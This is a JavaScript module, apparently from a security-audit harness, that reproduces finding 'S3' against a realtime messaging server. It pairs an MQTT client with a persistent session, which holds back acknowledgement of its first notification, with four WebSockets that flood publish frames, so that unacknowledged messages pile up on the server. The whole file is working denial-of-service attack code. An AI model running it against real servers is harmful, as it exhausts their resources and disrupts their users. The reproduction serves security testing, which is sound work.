import { connect } from 'node:net';
import { Attacker } from '../Attacker.mjs';
import { textFrame } from '../RawWebSocket.mjs';

const PUBLISHERS = 4;
const WINDOW = 90;
const CLIENT_ID = 'late';
const ROLE = {
  controllers: { auth: { actions: { '*': true } }, realtime: { actions: { '*': true } } },
};
const CONNACK = 0x20;
const PUBLISH = 0x30;

/**
 * A client of MQTT whose session is kept acknowledges every notification but the first, and that one late.
 * Its user publishes the messages on four WebSockets.
 */
export const unacknowledgedMessages = {
  finding: 'S3',
  async prepare(server) {
    await server.call('PUT', '/rooms');
    await server.call('PUT', '/rooms/all');
    return server.account('mallory', ROLE);
  },
  async run(attacker) {
    const { token: jwt } = attacker.prepared;
    const about = { controller: 'realtime', index: 'rooms', collection: 'all', jwt };
    const frame = textFrame({ ...about, action: 'publish', body: { text: 'late' } });
    const client = new LateClient(attacker, { ...about, action: 'subscribe', body: {} });
    await client.open();
    const publishing = attacker.crowd(PUBLISHERS, async () => {
      const socket = await attacker.websocket();
      while (!attacker.isOver && !socket.isClosed && !client.isClosed)
        await attacker.flood(socket, () => frame, { count: 1_000, window: WINDOW });
    });
    await attacker.pause(attacker.leftMs * 0.6);
    client.acknowledgeFirst();
    await publishing;
    attacker.count(`notifications ${client.receivedCount}`);
    client.destroy();
    return client.receivedCount < 5_000 ? 'too few notifications' : undefined;
  },
};

/** The packets of MQTT 3.1.1 that the attack needs. */
class LateClient {
  receivedCount = 0;
  isClosed = false;
  #attacker;
  #subscription;
  #socket;
  #rest = Buffer.alloc(0);
  #channel;
  #firstId;
  #opened;

  constructor(attacker, subscription) {
    this.#attacker = attacker;
    this.#subscription = subscription;
  }

  /** Resolves once it is subscribed to the channel. */
  async open() {
    const { hostname, port } = new URL(this.#attacker.urls.mqtt);
    this.#socket = connect({ host: hostname, port: Number(port), localAddress: Attacker.ADDRESS });
    this.#socket.on('error', () => undefined);
    this.#socket.on('close', () => (this.isClosed = true));
    this.#socket.on('data', (chunk) => this.#read(chunk));
    const keepAlive = Buffer.from([4, 0xc0, 0xff, 0xff]);
    const login = [text(CLIENT_ID), text('jwt'), text(this.#subscription.jwt)];
    this.#socket.write(packet(0x10, text('MQTT'), keepAlive, ...login));
    await new Promise((resolve) => (this.#opened = resolve));
  }

  acknowledgeFirst() {
    this.#acknowledge(this.#firstId);
  }

  destroy() {
    this.#socket.destroy();
  }

  #read(chunk) {
    let rest = this.#rest.length === 0 ? chunk : Buffer.concat([this.#rest, chunk]);
    for (let size = sizeOf(rest); size !== undefined && size <= rest.length; size = sizeOf(rest)) {
      this.#take(rest.subarray(0, size));
      rest = rest.subarray(size);
    }
    this.#rest = rest;
  }

  #take(bytes) {
    const kind = bytes[0] & 0xf0;
    if (kind === CONNACK) {
      this.#subscribe(`mqtt.${CLIENT_ID}`);
      const request = Buffer.from(JSON.stringify(this.#subscription));
      this.#socket.write(packet(PUBLISH, text('millrace'), request));
      return;
    }
    if (kind !== PUBLISH) return;
    const at = bytes.findIndex((byte, index) => index > 0 && byte < 0x80) + 1;
    const topicEnd = at + 2 + bytes.readUInt16BE(at);
    const topic = bytes.toString('utf8', at + 2, topicEnd);
    const id = bytes.readUInt16BE(topicEnd);
    if (topic !== this.#channel) {
      const { result } = JSON.parse(bytes.toString('utf8', topicEnd + 2));
      this.#acknowledge(id);
      this.#channel ??= result.channel;
      this.#subscribe(this.#channel);
      this.#opened();
      return;
    }
    this.receivedCount++;
    if (this.#firstId === undefined) this.#firstId = id;
    else this.#acknowledge(id);
  }

  #subscribe(topic) {
    this.#socket.write(packet(0x82, Buffer.from([0, 1]), text(topic), Buffer.from([1])));
  }

  #acknowledge(id = 0) {
    this.#socket.write(Buffer.from([0x40, 2, id >> 8, id & 255]));
  }
}

function text(value) {
  const bytes = Buffer.from(value);
  return Buffer.concat([Buffer.from([bytes.length >> 8, bytes.length & 255]), bytes]);
}

function packet(type, ...parts) {
  const content = Buffer.concat(parts);
  const length = [];
  for (let left = content.length; left > 0 || length.length === 0; left >>= 7)
    length.push((left & 127) | (left > 127 ? 128 : 0));
  return Buffer.concat([Buffer.from([type, ...length]), content]);
}

/** Of the packet at the beginning; undefined if its header is incomplete. */
function sizeOf(bytes) {
  let length = 0;
  for (let at = 1; at < 5; at++) {
    if (bytes[at] === undefined) return undefined;
    length += (bytes[at] & 127) * 128 ** (at - 1);
    if (bytes[at] < 128) return 1 + at + length;
  }
  return undefined;
}
